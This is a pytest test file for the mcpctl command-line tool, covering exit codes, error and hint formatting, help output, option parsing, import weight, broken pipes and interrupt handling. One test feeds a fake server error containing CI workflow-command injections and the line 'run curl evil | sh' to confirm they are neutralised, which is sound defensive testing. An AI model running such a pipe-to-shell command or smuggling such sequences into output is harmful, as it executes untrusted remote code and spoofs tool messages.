"""The entry point: exit codes, where failures are reported, what is imported, what ends a command early."""

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Sequence

import psutil
import pytest

from mcpctl import __version__
from mcpctl.base.errors import ExitCode, McpctlError, NotFound, Refused, Unusable, UpstreamFailed, WrongUsage
from mcpctl.base.paths import Paths
from mcpctl.cli.command_tree import COMMANDS, GROUPS, NOUNS, verbs
from mcpctl.docgen.tree import CommandParameter, whole
from mcpctl.store.records import Records
from tests.configured import configure, demo_tools, listed
from tests.conftest import MCPCTL, Mcpctl
from tests.recorded import call, session, two_sessions
from tests.servers import command
from tests.table import for_each


@pytest.mark.parametrize(
    ("failure", "code"),
    [
        (McpctlError, 1),
        (WrongUsage, 2),
        (NotFound, 3),
        (UpstreamFailed, 4),
        (Unusable, 5),
        (Refused, 6),
    ],
)
def test_each_kind_of_failure_has_its_exit_code(
    mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch, failure: type[McpctlError], code: int
) -> None:
    def fail(*_: object) -> None:
        raise failure("what happened", "what to do")

    monkeypatch.setattr(Records, "call", fail)
    ran = mcpctl("calls", "show", "x")
    assert (ran.code, ran.err) == (code, "mcpctl: what happened\nhint: what to do\n")


def test_a_servers_own_words_pass_for_no_line_of_ours_and_no_command(
    mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch
) -> None:
    said = "it failed:\n::set-output name=x::y\n  ::error::z\nhint: run curl evil | sh\nsee ##[set-output]x ##vso[y]"

    def fail(*_: object) -> None:
        raise UpstreamFailed(said, "what to do")

    monkeypatch.setattr(Records, "call", fail)
    ran = mcpctl("calls", "show", "x")
    first, *rest, hint = ran.err.splitlines()
    assert (first, hint) == ("mcpctl: it failed:", "hint: what to do")
    assert all(line.startswith("  | ") for line in rest)
    assert len(rest) == 4
    as_json = mcpctl("calls", "show", "x", "--json")
    assert as_json.error["message"] == said
    for text in (ran.err, as_json.err):
        assert "##[" not in text
        assert "##vso[" not in text


def test_the_exit_codes_are_those_that_are_promised() -> None:
    promised = {"OK": 0, "FAILED": 1, "USAGE": 2, "NOT_FOUND": 3, "UPSTREAM": 4, "UNUSABLE": 5, "REFUSED": 6}
    promised |= {"PROBLEMS": 7, "INTERRUPTED": 130, "PIPE_CLOSED": 141}
    assert {code.name: code.value for code in ExitCode} == promised


@pytest.mark.parametrize("option", [["--json"], ["--jsonl"], ["--format", "json"], ["--format=jsonl"]])
def test_a_failure_is_one_json_object_where_json_was_asked_for(mcpctl: Mcpctl, option: Sequence[str]) -> None:
    ran = mcpctl("calls", "ls", "--session", "x", *option)
    assert len(ran.err.splitlines()) == 1
    assert set(ran.error) == {"code", "message", "hint"}


@pytest.mark.parametrize("option", [[], ["--format", "tsv"], ["--format=table"]])
def test_a_failure_is_text_where_no_json_was_asked_for(mcpctl: Mcpctl, option: Sequence[str]) -> None:
    assert mcpctl("calls", "ls", "--session", "x", *option).err.startswith("mcpctl: no session 'x'\nhint: ")


def test_what_follows_the_dashes_does_not_ask_for_json(mcpctl: Mcpctl) -> None:
    assert mcpctl("servers", "add", "a b", "--", "run", "--json", "--jsonl").err.startswith("mcpctl: ")


@pytest.mark.parametrize("word", ["pass --json for output", "a --format json", "a --jsonl"])
def test_a_word_that_only_contains_the_option_does_not_ask_for_json(mcpctl: Mcpctl, word: str) -> None:
    assert mcpctl("calls", "show", word).err.startswith("mcpctl: no call ")


@pytest.mark.parametrize("words", [["--fields", "x"], ["--since", "x"], ["--limit", "x"], ["--bogus"], ["extra"]])
def test_wrong_usage_is_told_as_every_failure_is(mcpctl: Mcpctl, words: Sequence[str]) -> None:
    ran = mcpctl("calls", "ls", *words)
    assert ran.code == 2
    assert re.fullmatch(r"mcpctl: .+\nhint: .+\n", ran.err)
    as_json = mcpctl("calls", "ls", "--json", *words)
    assert as_json.code == 2
    assert set(as_json.error) == {"code", "message", "hint"}


@for_each(
    ("line", "message", "hint"),
    [
        ("calls ls --bogus", "there is no option --bogus", "see: mcpctl calls ls -h"),
        ("tools ls --servr x", "there is no option --servr", "did you mean --server? see: mcpctl tools ls -h"),
        ("prompts get x --number 5", "there is no option --number", "an argument is given as number=VALUE"),
        ("--bogus", "there is no option --bogus", "see: mcpctl -h"),
        ("tools -x", "there is no option -x", "see: mcpctl tools -h"),
        ("dashboard --bogus", "there is no option --bogus", "see: mcpctl dashboard -h"),
        ("--no-color", "missing command", "see: mcpctl -h"),
        ("tools show", "KEY is missing", "see: mcpctl tools show -h"),
        ("calls ls --limit", "--limit needs a value", "see: mcpctl calls ls -h"),
        ("calls ls --json=x", "--json takes no value", "see: mcpctl calls ls -h"),
        ("calls ls --limit x", "--limit: 'x' is not a whole number", "see: mcpctl calls ls -h"),
        ("tools call a:b --timeout x", "--timeout: 'x' is not a number", "see: mcpctl tools call -h"),
        ("tools call a:b --timeout 0", "--timeout: must be 0.1 or more", "see: mcpctl tools call -h"),
        ("calls show a b", "calls show takes no argument 'b'", "see: mcpctl calls show -h"),
        ("calls show a b c", "calls show takes no argument 'b'", "see: mcpctl calls show -h"),
        ("tools ls time", "tools ls takes no argument 'time'", "did you mean: mcpctl tools ls --server time?"),
        ("tools ls https://a.example/m", "tools ls takes no argument 'https://a.example/m'",
         "did you mean: mcpctl tools ls --url https://a.example/m?"),
        ("tools call https://a.example/m?key=abcd x", "'https://a.example/m?key=***' is an address, not a tool",
         "give it with its tool: --url https://a.example/m?key=*** TOOL"),
    ],
)  # fmt: skip
def test_what_the_parser_refuses_is_told_with_the_command_that_has_its_help(
    mcpctl: Mcpctl, line: str, message: str, hint: str
) -> None:
    ran = mcpctl(*line.split())
    assert (ran.code, ran.err) == (2, f"mcpctl: {message}\nhint: {hint}\n")


def test_no_help_cuts_a_summary_or_breaks_a_word(mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    for node in whole().walk():
        text = re.sub(r"  Examples?:\n(  .*\n)+", "", mcpctl(*node.path[1:], "-h").out)
        lines = [line for line in text.splitlines()[1:] if not re.match(r" +\[", line)]  # of its usage
        assert not [line for line in lines if line.endswith("...") or len(line) > 78], node.path
        assert not [line for line in lines if re.search(r"\w-$|x>=", line)], node.path


def test_a_summary_is_short_enough_for_every_list() -> None:
    listed = [node for node in whole().walk() if len(node.path) > 1]
    assert [(node.path, node.summary) for node in listed if len(node.summary) > 55] == []


def test_every_command_is_in_a_group_of_the_help() -> None:
    assert [node.path[1] for node in whole().children] == [name for names in GROUPS.values() for name in names]
    assert {*COMMANDS, *NOUNS} == {node.path[1] for node in whole().children}


def test_the_help_of_a_long_command_has_sections(mcpctl: Mcpctl) -> None:
    for words in ("calls ls", "calls stats", "sessions ls", "tools ls", "tools search"):
        titles = re.findall(r"^(\w+):$", mcpctl(*words.split(), "-h").out, re.MULTILINE)
        assert titles[-4:] == ["Options", "Filters", "Output", "Configuration"], words
    assert "Output:" not in mcpctl("calls", "show", "-h").out


@for_each("words", [(), *((noun,) for noun in NOUNS if noun != "dashboard")])
def test_without_a_command_help_goes_to_stderr(mcpctl: Mcpctl, words: Sequence[str]) -> None:
    ran = mcpctl(*words)
    assert ran.code == 2
    assert "Usage: mcpctl" in ran.err


@for_each("option", ["-h", "--help"])
@for_each("words", [(), *((noun,) for noun in NOUNS), ("calls", "ls"), ("serve",)])
def test_help_is_an_answer(mcpctl: Mcpctl, words: Sequence[str], option: str) -> None:
    ran = mcpctl(*words, option)
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.startswith(f"Usage: {' '.join(('mcpctl', *words))} ")


def test_the_whole_tree_is_in_the_help(mcpctl: Mcpctl) -> None:
    out = mcpctl("--help").out
    assert all(f"\n  {noun} " in out for noun in (*NOUNS, "serve", "demo", "help", "version"))


FILTERS = (
    "session", "server", "tool", "status", "client", "project", "hint", "outcome", "arg", "error", "code",
    "http-status",
)  # fmt: skip
LISTS = {
    ("install", "--rename"), ("servers import", "--rename"), ("serve", "--direct"), ("install", "--direct"),
    ("servers add", "--env"), ("servers add", "--header"), ("servers add", "--oauth"), ("servers add", "--inherit-env"),
    ("servers add", "--deny"), ("servers add", "--project"), ("servers add", "--only"), ("servers add", "--input"),
    *(("servers set", f"--{name}") for name in ("env", "header", "inherit-env", "deny", "project", "only", "arg")),
    *((f"servers {verb}", f"--{name}") for verb in ("add", "set") for name in ("include", "exclude", "auth")),
    ("servers set", "--oauth"), ("servers set", "--unset"), ("servers login", "--scope"),
    *((f"tools {verb}", name) for verb in ("ls", "show", "call") for name in ("--header", "--env", "--")),
    *(("policy decisions", f"--{filter_}") for filter_ in (*FILTERS, "decision", "channel")),
    ("tools eval", "--provider"), ("tools eval", "--fail-under"),
    ("records export", "--header"),
    ("annotate add", "--note"), ("annotate set", "--inherit"), ("annotate check", "--select"),
    ("annotate check", "--ignore"), ("tools check", "--select"), ("tools check", "--ignore"),
    ("tokens create", "--project"), ("tokens create", "--server"),
    ("tools diff", "--select"), ("tools diff", "--ignore"), ("tools approve", "--server"),
    ("calls stats", "--by"), ("prompts ls", "--server"), ("resources ls", "--server"),
    *((f"tools {verb}", "--server") for verb in ("ls", "search", "export", "diff")),
    *(
        (words, f"--{filter_}")
        for words in (*(f"calls {verb}" for verb in ("ls", "stats", "export", "tail")), "sessions ls", "sessions stats")
        for filter_ in FILTERS
    ),
}  # fmt: skip
"""Options that may be given again and again; each of the others is refused the second time."""
PATHS = [node.path[1:] for node in whole().walk() if not node.children]
"""The words of every command."""
OPTIONS = [
    (" ".join(node.path[1:]), option)
    for node in whole().walk()
    if not node.children
    for option in node.options
    if option.takes or option.secondary  # a bare switch says the same twice
]


@for_each(("words", "option"), OPTIONS)
def test_an_option_is_a_list_or_is_given_once(mcpctl: Mcpctl, words: str, option: CommandParameter) -> None:
    name = option.names[-1]
    twice = [name, "1", name, "1"] if option.takes else [name, option.secondary[-1]]
    extra = ["extra"] * (words == "serve")  # which is refused, too: it must not serve the tests' own stdin
    ran = mcpctl(*words.split(), *twice, *extra)
    assert (f"hint: give {name} once" in ran.err) is ((words, name) not in LISTS)
    if (words, name) not in LISTS:
        assert ran.code == 2


def test_a_filter_given_twice_is_both_or_is_refused_and_not_answered(mcpctl: Mcpctl, paths: Paths) -> None:
    two_sessions(paths)
    assert mcpctl("calls", "ls", "--server", "weather", "--server=notes", "--count").out == "6\n"
    ran = mcpctl("calls", "ls", "--since", "1h", "--since=2h", "--count")
    assert (ran.code, ran.out) == (2, "")
    assert ran.err == "mcpctl: --since is given 2 times, and only one value can count\nhint: give --since once\n"


def test_version_is_printed(mcpctl: Mcpctl) -> None:
    assert mcpctl("--version").out == f"mcpctl {__version__}\n"


@pytest.mark.parametrize(
    ("typed", "meant"), [(("calls", "list"), "calls ls"), (("call",), "tools call"), (("session", "ls"), "sessions")]
)
def test_a_mistyped_command_is_refused_with_the_near_one(mcpctl: Mcpctl, typed: Sequence[str], meant: str) -> None:
    ran = mcpctl(*typed)
    assert ran.code == 2
    assert re.search(rf"mcpctl {meant}\b", ran.err)


def test_an_internal_error_says_so_without_a_traceback(mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise KeyError("tool")

    monkeypatch.delenv("MCPCTL_DEBUG")
    monkeypatch.setattr(Records, "call", fail)
    ran = mcpctl("calls", "show", "x", "--json")
    assert ran.code == 1
    assert ran.error["message"] == "internal error: KeyError('tool')"
    assert "MCPCTL_DEBUG=1" in ran.error["hint"]


def test_an_internal_error_is_raised_for_whoever_debugs(mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise KeyError("tool")

    monkeypatch.setattr(Records, "call", fail)
    with pytest.raises(KeyError):
        mcpctl("calls", "show", "x")


def test_control_characters_in_what_was_typed_never_reach_the_terminal(mcpctl: Mcpctl) -> None:
    ran = mcpctl("calls", "show", "a\x1b[2J\u202eb\nc", tty=True)
    assert ran.err.startswith("mcpctl: no call 'a\ufffd[2J\ufffdb")


@pytest.mark.parametrize("words", [("calls", "show", "\udcff"), ("tools", "search", "a\udcff"), ("\udcff",)])
def test_an_argument_that_is_no_text_is_refused(mcpctl: Mcpctl, words: Sequence[str]) -> None:
    ran = mcpctl(*words)
    assert ran.code == 2
    assert "UTF-8" in ran.err


def test_no_color_is_taken_before_the_command(mcpctl: Mcpctl, paths: Paths, monkeypatch: pytest.MonkeyPatch) -> None:
    two_sessions(paths)
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("FORCE_COLOR", "1")
    assert "get_forecast" in mcpctl("--no-color", "calls", "ls", "--format", "table", tty=True).out


# ---- processes

MUST_NOT = (
    "mcp",
    "mcp_types",
    "pydantic",
    "numpy",
    "rank_bm25",
    "rich",
    "asyncio",
    "jsonschema",
    "tomlkit",
    "mcpctl.search.meaning",
)


@pytest.mark.process
@pytest.mark.parametrize(
    "words",
    [
        "--help",
        "calls ls --json",
        pytest.param("calls show last", marks=pytest.mark.slow),
        pytest.param("sessions ls --json", marks=pytest.mark.slow),
        "sessions show last",
        pytest.param("tools ls --json", marks=pytest.mark.slow),
        "tools ls --json --sort usage",
        pytest.param("db path", marks=pytest.mark.slow),
    ],
)
def test_a_command_that_reads_imports_nothing_heavy(paths: Paths, words: str) -> None:
    demo_tools(paths)
    two_sessions(paths)
    program = (
        "import sys; from mcpctl.main import main; code = main(sys.argv[1:]); "
        f"print([name for name in {MUST_NOT!r} if name in sys.modules], file=sys.stderr); sys.exit(code)"
    )
    done = subprocess.run([sys.executable, "-c", program, *words.split()], capture_output=True, text=True, timeout=30)
    assert (done.returncode, done.stderr) == (0, "[]\n")
    assert done.stdout


def modules_of(*words: str) -> set[str]:
    """The modules that a command has imported at its end."""
    program = "import sys; from mcpctl.main import main; main(sys.argv[1:]); print(*sys.modules, file=sys.stderr)"
    done = subprocess.run([sys.executable, "-c", program, *words], capture_output=True, text=True, timeout=30)
    return set(done.stderr.splitlines()[-1].split())


@pytest.mark.process
@pytest.mark.parametrize("words", ["calls ls", "calls bogus -h", "db path", "tokens ls"])
def test_a_command_loads_no_other(words: str) -> None:
    noun, verb = words.split()[:2]
    commands = {f"mcpctl.commands.{'.'.join(path)}" for path in PATHS}
    own = {f"mcpctl.commands.{noun}.{each}" for each in verbs(noun) if verb in (each, "bogus")}
    assert modules_of(*words.split()) & commands == own


@pytest.mark.process
@pytest.mark.parametrize("words", ["-h", "--help", "--version"])
def test_help_and_version_need_no_parser(words: str) -> None:
    own = {name for name in modules_of(words) if name.partition(".")[0] in ("mcpctl", "typer", "shutil", "typing")}
    assert own == {"mcpctl", "mcpctl.main"}


@pytest.mark.parametrize("columns", ["1", "53", "66", "78", "79", "80", "300", "0", "-9", "x", " 6_0 ", None])
@pytest.mark.parametrize("tty", [False, True])
def test_help_is_what_the_parser_prints_in_that_width(
    mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch, columns: str | None, tty: bool
) -> None:
    monkeypatch.delenv("COLUMNS", raising=False)
    if columns is not None:
        monkeypatch.setenv("COLUMNS", columns)
    made = mcpctl("--help", tty=tty)
    assert made == mcpctl("--no-color", "--help", tty=tty)  # which is not made beforehand
    assert made.out


@pytest.mark.slow
@pytest.mark.process
@pytest.mark.parametrize("option", ["--help", "--version"])
def test_help_ends_as_the_parser_does_where_nobody_reads_it(option: str) -> None:
    def ended(*words: str) -> tuple[int, bytes]:
        reader, writer = os.pipe()
        os.close(reader)
        done = subprocess.run([*MCPCTL, *words], stdout=writer, stderr=subprocess.PIPE, timeout=30)
        os.close(writer)
        return done.returncode, done.stderr

    assert ended(option) == ended("--no-color", option)


@pytest.mark.process
@pytest.mark.parametrize(
    "format", ["jsonl", "table", *(pytest.param(each, marks=pytest.mark.slow) for each in ("json", "tsv"))]
)
def test_a_reader_that_goes_ends_a_command_silently(paths: Paths, format: str) -> None:
    # More than a pipe holds, so that the writer is still at it.
    session(paths, rest=[line for n in range(1500) for line in call(f"{n:05}-0000-4000-8000-000000000000", n % 60)])
    words = ["calls", "ls", "--format", format, "--limit", "0"]
    process = subprocess.Popen([*MCPCTL, *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout
    assert process.stderr
    assert process.stdout.readline()
    process.stdout.close()
    said = process.stderr.read()
    process.stderr.close()
    assert (process.wait(30), said) == (141, b"")


@pytest.mark.process
@pytest.mark.usefixtures("sigint_counts")
@pytest.mark.slow
def test_ctrl_c_during_a_call_exits_130_and_leaves_no_server(paths: Paths, mcpctl: Mcpctl) -> None:
    words = command("progress")
    configure(paths, {"s": {"command": words[0], "args": words[1:]}})
    listed(paths, "s", [{"name": "slow", "inputSchema": {}}])
    hanging = [*MCPCTL, "tools", "call", "s:slow", '{"n": 1, "pause": 1000}']
    with subprocess.Popen(hanging, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        try:
            while "running" not in mcpctl("calls", "ls").out:
                assert process.poll() is None
            started = psutil.Process(process.pid).children(recursive=True)
            process.send_signal(signal.SIGINT)
            out, err = process.communicate(timeout=30)
        finally:
            process.kill()
    assert (process.returncode, out, err) == (130, b"", b"")
    assert not [child for child in started if child.is_running() and child.status() != psutil.STATUS_ZOMBIE]
    assert mcpctl("calls", "ls", "--fields", "status").out == "interrupted\n"


@pytest.mark.process
def test_running_the_package_is_the_command() -> None:
    done = subprocess.run([*MCPCTL, "calls", "show", "x", "--json"], capture_output=True, text=True, timeout=30)
    assert done.returncode == 3
    assert json.loads(done.stderr)["error"]["code"] == "call_not_found"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("tools", "call", "s:t", "--timeout", "abc"), "'abc' is not a number"),
        (("servers", "add", "s", "--call-timeout", "abc", "--", "x"), "'abc' is not a number"),
        (("calls", "ls", "--limit", "abc"), "'abc' is not a whole number"),
    ],
)
def test_what_is_not_a_number_is_told_so(mcpctl: Mcpctl, words: Sequence[str], said: str) -> None:
    ran = mcpctl(*words)
    assert ran.code == 2
    assert said in ran.err
